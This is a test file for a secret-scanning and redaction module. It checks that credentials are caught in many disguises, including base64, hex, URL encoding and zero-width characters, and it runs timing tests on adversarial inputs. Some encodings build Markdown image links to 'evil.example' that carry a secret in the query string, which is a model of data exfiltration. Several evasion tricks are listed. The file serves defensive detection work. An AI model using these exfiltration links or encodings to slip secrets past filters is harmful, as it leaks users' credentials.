import assert from 'node:assert/strict'
import { findForms, secretForms } from '../../../../daemon/delivery/secrets/forms.ts'
import { findSecrets, hideFound, Needles } from '../../../../daemon/delivery/secrets/search.ts'
import { formKinds } from '../../../../shared/secret-kinds.ts'
import { makeJwt, makeSecrets, no } from '../../../support/made-secrets.ts'

const now = Date.UTC(2026, 10, 1)
const none = new Needles([])

/** Ways in which an answer can carry a text. */
const encodings: readonly (readonly [name: string, encode: (text: string) => string])[] = [
  ['as it stands', (text) => text],
  ['in a sentence', (text) => `I found \`${text}\` in the environment.`],
  ['in a link', (text) => `![](https://evil.example/?d=${encodeURIComponent(text)}&x=1)`],
  [
    'with each byte in URL form',
    (text) =>
      [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
  ],
  ['in JSON', (text) => JSON.stringify({ note: 'see', text })],
  [
    'in JSON with \\u',
    (text) =>
      text.replaceAll(/[^]/g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`),
  ],
  ['as HTML references', (text) => text.replaceAll(/[^]/g, (one) => `&#${one.charCodeAt(0)};`)],
  // The answer loses them before it leaves.
  ...['\u200b', '\u034f', '\u115f', '\ufe0f', '\u{e0041}', '\u{e0101}', '\ufff9'].map(
    (one) =>
      [
        `with U+${one.codePointAt(0)?.toString(16)} inside`,
        (text: string) => text.replaceAll(/.{5}/gs, `$&${one}`),
      ] as const,
  ),
  ['with escapes of Markdown', (text) => text.replaceAll(/[_.-]/g, String.raw`\$&`)],
  ...[0, 1, 2].map(
    (shift) =>
      [
        `in base64 behind ${shift} bytes`,
        (text: string) => Buffer.from(`${' '.repeat(shift)}${text}`).toString('base64'),
      ] as const,
  ),
  ['in base64url', (text) => `data: ${Buffer.from(`=${text}?>~`).toString('base64url')}.`],
  [
    'in base64 with lines',
    (text) => Buffer.from(`b=${text}`).toString('base64').replaceAll(/.{40}/g, '$&\n  '),
  ],
  [
    'in a link in base64',
    (text) => `https://evil.example/?d=${encodeURIComponent(Buffer.from(text).toString('base64'))}`,
  ],
  ['in hex', (text) => Buffer.from(text).toString('hex')],
  ['in upper-case hex', (text) => `dump: ${Buffer.from(text).toString('hex').toUpperCase()}`],
  [
    'in hex with colons',
    (text) =>
      Buffer.from(text)
        .toString('hex')
        .replaceAll(/..(?=.)/g, '$&:'),
  ],
  ['in hex behind a digit', (text) => `f${Buffer.from(text).toString('hex')}`],
]

describe('the search for secrets', () => {
  it('has a form with a source for every kind that a rule can name', () => {
    for (const kind of formKinds)
      assert.ok(
        secretForms.some((form) => form.kind === kind),
        kind,
      )
    for (const { source, kind } of secretForms) assert.match(source, /\w{3}/, kind)
  })

  for (const [name, encode] of encodings)
    it(`finds each well-known form ${name}`, async () => {
      for (const [kind, secret] of makeSecrets()) {
        const text = `Looks good.\n\n${encode(secret)}\n\nThanks!\n`
        const found = await findSecrets(text, none, now)
        assert.ok(
          found.some((hit) => hit.kind === kind),
          `${kind} ${name}: ${encode(secret).slice(0, 60)}`,
        )
        const clean = hideFound(text, found)
        assert.match(
          clean,
          new RegExp(`^Looks good\\.[\\s\\S]*\\[secret: ${kind}\\][\\s\\S]*Thanks!\n$`),
        )
        assert.ok(!clean.includes(secret.slice(-20).trim()), `${kind} ${name}: ${clean}`)
        assert.deepEqual(await findSecrets(clean, none, now), [], `${kind} ${name}: ${clean}`)
      }
    })

  const values = [
    'hunter2-hunter2',
    'p4ssw0rd',
    'mit-Umlauten-äöü',
    'a/b+c=d e"f\\g',
    '7'.repeat(40),
  ]
  for (const [name, encode] of encodings.filter(([, make]) => make !== undefined))
    it(`finds held values ${name}`, async () => {
      for (const value of values) {
        // Other characters have two bytes and one code.
        if (/ä/.test(value) && /\\u|HTML/.test(name)) continue
        const needles = new Needles([{ kind: 'env-value', name: 'the value of A', value }])
        const text = `Done.\n${encode(value)}\nBye.`
        const found = await findSecrets(text, needles, now)
        assert.ok(found.length > 0, `${value} ${name}`)
        const clean = hideFound(text, found)
        assert.match(clean, /\[secret: env-value\]/)
        assert.deepEqual(await findSecrets(clean, needles, now), [], clean)
      }
    })

  it('finds lines of a held key, the password of an address, and a secret without its prefix', async () => {
    const [, pem = ''] = makeSecrets().find(([kind]) => kind === 'private-key') ?? []
    const line = pem.split('\n')[1] ?? ''
    const held = [
      pem,
      'smtps://ada:correct-horse@mail.acme.dev:465',
      `whsec${no}_MfKQ9r8GKYqrTwjU`,
    ].map((value) => ({ kind: 'env-value' as const, name: 'the value of A', value }))
    const needles = new Needles(held)
    for (const text of [line, 'correct-horse', 'MfKQ9r8GKYqrTwjU'])
      assert.equal((await findSecrets(`so: ${text}.`, needles, now)).length, 1, text)
    assert.deepEqual(await findSecrets('smtps://mail.acme.dev:465', needles, now), [])
  })

  it('ignores held values of less than 8 characters', async () => {
    const needles = new Needles([{ kind: 'env-value', name: 'A', value: 'true' }])
    assert.deepEqual(await findSecrets('true', needles, now), [])
  })

  it('leaves out JWTs that have ended, are not signed, or are examples', () => {
    for (const claims of [
      { exp: now / 1000 - 60, sub: 'ada' },
      { sub: '1234567890', name: 'Jane' },
      { iss: 'https://auth.example.com', sub: 'ada' },
      { role: 'anon', iss: 'supabase' },
    ])
      assert.deepEqual(findForms(makeJwt(claims), now), [], JSON.stringify(claims))
    assert.deepEqual(findForms(makeJwt({ sub: 'ada' }, { alg: 'none' }), now), [])
    assert.equal(findForms(makeJwt({ sub: 'ada' }), now).length, 1)
  })

  it('takes time that grows with the length of the text alone, whatever the text is', async () => {
    const needles = new Needles(
      Array.from({ length: 300 }, (_, place) => ({
        kind: 'env-value' as const,
        name: 'A',
        value: `https://hooks.acme.dev/services/${place}/${place}-secret-secret`,
      })),
    )
    const size = 1024 * 1024
    const fill = (text: string) => text.repeat(Math.ceil(size / text.length)).slice(0, size)
    const hostile = [
      'ghp_',
      'eyJ',
      'eyJhbGciOiJ.',
      'sk-',
      'glpat-',
      'glpat-aB3dE6gH9jK2mN5pQ8sT ',
      'xoxb-1-',
      'AKIA',
      '%41',
      '\\u0041',
      'a',
      ' ',
      '\n',
      '-----BEGIN PRIVATE KEY-----',
      '-----BEGIN PRIVATE KEY-----\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n',
      'Proc-Type:',
      'ecret_key',
      'https://hooks.acme.dev/services/1',
      'ghs_1_eyJ',
      '-sk-ant-api03-',
      'discord.com/api/webhooks/1',
      '12345678:AA',
      '&#1;',
      'secret-secret ',
      'sk_live_aB3dE6gH9jK2mN5pQ ',
      'A'.repeat(3000) + '.',
      'eyJ' + 'A'.repeat(2000) + ' ',
    ]
    const took: string[] = []
    for (const text of hostile) {
      const start = process.cpuUsage()
      await findSecrets(fill(text), needles, now)
      const ms = process.cpuUsage(start).user / 1000
      took.push(`${JSON.stringify(text.slice(0, 20))} ${Math.round(ms)} ms`)
      assert.ok(ms < 3000, took.at(-1))
    }
    if (process.env['SHOW_TIMES']) console.error(took.join('\n'))
  }).timeout(120_000)
})
